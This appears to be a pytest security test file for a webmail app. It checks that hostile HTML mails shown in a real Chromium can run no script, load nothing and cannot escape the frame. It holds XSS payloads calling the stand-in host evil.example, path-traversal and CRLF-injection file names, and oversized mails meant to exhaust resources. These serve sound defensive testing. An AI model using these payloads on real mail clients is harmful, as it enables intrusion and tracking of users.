"""A hostile mail does nothing but be shown, in a real Chromium."""

from __future__ import annotations

import contextlib
import email.message
import os
import struct
import subprocess
import sys
import time
import zlib
from typing import Any

import pytest
from playwright.sync_api import Error

from host.web.conftest import Site, Watched, mail
from umail_host.fake_smtp.pytest_plugin import USER
from umail_host.web import html, sanitiser
from umail_host.web.mail import disposition, file_name

# Each tries to run a script, to load, to send, to leave or to hide the frame: it must do none of them.
BODIES = {
    "script": "<script>document.title='ran';fetch('//evil.example/s')</script>",
    "handler": """<img src=x onerror="fetch('//evil.example/e')"><body onload="fetch('//evil.example/o')">""",
    "svg": """<svg onload="fetch('//evil.example/v')"><image href="http://evil.example/i.png"/>
        <use href="//evil.example/u#a"/></svg>""",
    "math": """<math><mtext><table><mglyph><style>
        <img src=x onerror="fetch('//evil.example/m')"></style></mglyph></table></mtext></math>""",
    "form": '<form action="http://evil.example/f"><input name=q autofocus><button>go</button></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/r">',
    "base": '<base href="http://evil.example/"><img src="b.png">',
    "image": """<img src="http://evil.example/i.png" srcset="http://evil.example/2.png 2x">
        <picture><source srcset="//evil.example/p"></picture>""",
    "media": """<video src="http://evil.example/v.mp4" poster="//evil.example/p" autoplay></video>
        <audio src="//evil.example/a" autoplay>""",
    "css": r"""<style>@import "http://evil.example/c.css";body{background:url(//evil.example/b)}</style>
        <p style="background:url(http://evil.example/u);background-image:image-set(url(//evil.example/s) 1x)">x</p>
        <link rel=stylesheet href="http://evil.example/l.css"><link rel=prefetch href="//evil.example/q">
        <p style="background:\75rl(http://evil.example/e)">y</p>""",
    "frame": """<iframe src="http://evil.example/n"></iframe><object data="//evil.example/o"></object>
        <embed src="//evil.example/m">""",
    "link": '<a href="http://evil.example/l" target="_top" ping="//evil.example/p">press</a>',
    "javascript": """<a href="javascript:fetch('//evil.example/j')">press</a>
        <a href="data:text/html,<script>1</script>">x</a>""",
    "api": '<img src="/api/v1/export"><a href="/api/v1/mails">press</a><iframe src="/"></iframe>',
    "cover": '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
}

REMOVED = ["<script", "onload", "onerror", "<form", "http-equiv", "<style", "<svg", "url(", "javascript:", "<iframe"]


def with_html(body: str, *images: tuple[str, bytes]) -> bytes:
    message = email.message.EmailMessage()
    message["From"], message["To"], message["Subject"] = USER, "ops@contoso.com", "hostile"
    message.set_content("plain")
    message.add_alternative(f"<p>seen</p>{body}", subtype="html")
    part: Any = message.get_payload()[1]
    for name, octets in images:
        part.add_related(octets, "image", "png", cid=f"<{name}>")
    return message.as_bytes()


def opened(site: Site, watched: Watched, key: str) -> None:
    watched.page.goto(f"{site.url}/#/mails/{key}")
    watched.page.wait_for_selector(f'.reader[data-id="{key}"] .body')


@pytest.mark.parametrize("sanitised", [True, False], ids=["sanitised", "by the frame alone"])
def test_a_hostile_mail_does_nothing_but_be_shown(site, watched, evil, monkeypatch, sanitised):
    """Both walls hold alone: with the sanitiser out of the way, sandbox and policy still stop everything.

    (But for a connection on which nothing is said: Chromium may open one ahead, before it asks the policy.)
    """
    if not sanitised:
        monkeypatch.setattr(sanitiser, "clean", lambda text, pictures: text)
    keys = site.send(*[with_html(body) for body in BODIES.values()])
    dialogs: list[str] = []
    watched.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    evil.forget()
    for name, key in zip(BODIES, keys, strict=True):
        opened(site, watched, key)
        frame = watched.page.frame_locator("iframe")
        assert frame.locator("p").first.inner_text() == "seen", name
        if sanitised:
            shown = site.ask(f"/api/v1/mails/{key}/html")[1].decode().lower()
            for word in REMOVED:
                assert word not in shown, (name, word)
        for pressed in frame.locator("a, button").all():
            pressed.click(timeout=3000)
        watched.page.wait_for_timeout(150)
        assert watched.page.url == f"{site.url}/#/mails/{key}", name
        assert watched.page.title() == "umail · Mails", name
        assert not [said for said in evil.heard if sanitised or said], name
        assert len(watched.page.context.pages) == 1, name
    assert not dialogs
    with contextlib.suppress(Error):  # 204: the page stays
        watched.page.goto("http://evil.example/told")
    assert any(b"/told" in said for said in evil.heard), "the host that must not be asked does not hear who asks it"


def test_the_frame_has_an_address_and_a_policy_of_its_own(site, watched):
    (key,) = site.send(with_html("<b>x</b>"))
    answer = watched.page.goto(f"{site.url}/api/v1/mails/{key}/html")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none'")
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    assert watched.page.evaluate("window.origin") == "null"


def test_a_mails_own_picture_is_shown_and_one_of_900_million_points_is_not(site, watched):
    def png(width: int, height: int) -> bytes:
        def chunk(kind: bytes, data: bytes) -> bytes:
            return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

        rows = zlib.compress((b"\0" + bytes(width // 8 + 1)) * (height if height < 100 else 1))
        header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
        return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")

    body = '<img src="cid:small"><img src="cid:large"><img src="cid:none">'
    (key,) = site.send(with_html(body, ("small", png(20, 10)), ("large", png(30_000, 30_000))))
    opened(site, watched, key)
    widths = [
        image.evaluate("image => image.naturalWidth")
        for image in watched.page.frame_locator("iframe").locator("img").all()
    ]
    assert widths == [20, 0, 0]
    assert html.points(png(30_000, 30_000)) == 900_000_000


def test_huge_headers_ten_thousand_parts_and_deep_nesting_are_bounded(site, watched):
    headers = b"Subject: huge\r\n" + b"".join(b"X-%d: %s\r\n" % (number, b"y" * 900) for number in range(11_000))
    parts = b"".join(b"--b\r\nContent-Type: text/plain\r\n\r\n%d\r\n" % number for number in range(10_000))
    many = b'Subject: many\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n' + parts + b"--b--\r\n"
    deep = b"Subject: deep\r\n"
    for level in range(3000):
        deep += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level)
    for name, octets in (("huge", headers + b"\r\nx\r\n"), ("many", many), ("deep", deep)):
        (key,) = site.send(octets)
        began = time.monotonic()
        status, found = site.ask(f"/api/v1/mails/{key}")
        assert (status, found["subject"]) == (200, name)
        assert time.monotonic() - began < 20, name
        assert len(found["headers"]) <= 500
        assert len(found["parts"]) <= 1000
        opened(site, watched, key)
        assert watched.page.inner_text(".reader h1") == name
    assert site.ask("/api/v1/mails?q=many")[1]["total"] == 1


HARD = {
    "From: " + "(" * 5000: "",
    "From: " + ":" * 5000: "",
    "Content-Type: text/plain" + "; a=b" * 4000: "",
    "Content-Type: text/html": "url(" + " " * 150_000 + "<" * 16_000,
    "References: " + "<" * 20_000: "",
}


def test_a_mail_that_is_hard_to_read_is_read_and_keeps_nobody_waiting(site):
    for header, text in HARD.items():
        began = time.monotonic()
        (key,) = site.send(f"Subject: hard\r\n{header}\r\n\r\n{text}\r\n".encode())
        assert site.ask(f"/api/v1/mails/{key}")[0] == site.ask(f"/api/v1/mails/{key}/standing")[0] == 200, header[:30]
        assert time.monotonic() - began < 10, header[:30]


def test_html_that_takes_too_much_is_not_shown_and_harms_nobody(site, watched, monkeypatch):
    (key,) = site.send(with_html("<b>x</b>" * 1000))
    assert site.ask(f"/api/v1/mails/{key}/html")[1].count(b"<b>x</b>") == 1000
    for limit, most in (("_OUT", 1000), ("_SECONDS", 0)):
        with monkeypatch.context() as strict:
            strict.setattr(sanitiser, limit, most)
            opened(site, watched, key)
            watched.page.reload()
            frame = watched.page.frame_locator("iframe")
            assert "takes too much to be shown" in frame.locator("p").first.inner_text(), limit


def test_the_process_that_sanitises_may_use_little_and_knows_no_secret(monkeypatch):
    monkeypatch.setenv("UMAIL_WEB_TOKEN", "s3cret")
    asked = "import resource, os, umail_host.web.sanitiser as one; one._limit(); print(*map(resource.getrlimit, ("
    asked += "resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_CORE)))"
    told = subprocess.run([sys.executable, "-c", asked], env=os.environ, capture_output=True, text=True, check=True)
    assert told.stdout.strip() == f"({1 << 30}, {1 << 30}) (5, 5) (0, 0)"
    given: list[dict[str, str]] = []
    start = subprocess.Popen
    monkeypatch.setattr(subprocess, "Popen", lambda *words, **more: given.append(more["env"]) or start(*words, **more))
    assert sanitiser.clean("<p>x<script>1</script>", {}) == "<p>x</p>"
    assert "UMAIL_WEB_TOKEN" not in given[0]


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../../etc/passwd", "passwd"),
        ("..\\..\\evil.exe", "evil.exe"),
        ("a\r\nSet-Cookie: x=1", "a Set-Cookie_ x=1"),
        ("invoice\u202efdp.exe", "invoice fdp.exe"),
        ("nul\0l.txt", "nul l.txt"),
        ('a"; filename="b', "a_; filename=_b"),
        ("...", ""),
        ("x" * 300 + ".csv", "x" * 116 + ".csv"),
    ],
)
def test_a_file_name_is_a_name_and_nothing_else(given, kept):
    part = email.message.Message()
    part.add_header("Content-Disposition", "attachment")
    part.set_param("filename", given, "Content-Disposition", charset="utf-8")
    assert file_name(part) == kept
    header = disposition(given)
    assert all(32 <= ord(c) < 127 for c in header)
    assert header.count('"') == 2


def test_attachments_are_saved_never_shown_byte_for_byte(site, watched, tmp_path):
    octets = b"<script>document.title='ran'</script>" + bytes(range(256))
    message = email.message.EmailMessage()
    message["From"], message["Subject"] = USER, "attached"
    message.set_content("x")
    message.add_attachment(octets, maintype="text", subtype="html", filename="../page.html")
    (key,) = site.send(message.as_bytes())
    opened(site, watched, key)
    with watched.page.expect_download() as saving:
        watched.page.click(".file")
    assert saving.value.suggested_filename == "page.html"
    saving.value.save_as(tmp_path / "saved")
    assert (tmp_path / "saved").read_bytes() == octets


def test_headers_and_subjects_are_text_whatever_they_hold(site, watched):
    subject = "<img src=x onerror=alert(1)>{{7*7}}"
    (key,) = site.send(mail(subject, "<script>alert(1)</script>"))
    opened(site, watched, key)
    assert watched.page.inner_text(".reader h1") == subject
    assert "<script>alert(1)</script>" in watched.page.inner_text(".body")
    assert not watched.errors


def test_what_the_page_brings_along_can_not_leave_its_place(site, watched):
    subject = "</script><script>document.title='ran'</script><!-- \u2028"
    (key,) = site.send(mail(subject, "</script><img src=x onerror=alert(1)>"))
    watched.page.goto(f"{site.url}/")
    watched.page.wait_for_selector(f".row[data-id='{key}']")
    assert watched.page.inner_text(".row .subject") == subject.replace("\u2028", " ").strip()
    watched.page.wait_for_selector(".live.on")
    assert watched.page.inner_text(".row .subject") == subject.replace("\u2028", " ").strip()
    assert watched.page.title() == "umail · Mails"
    assert not watched.errors
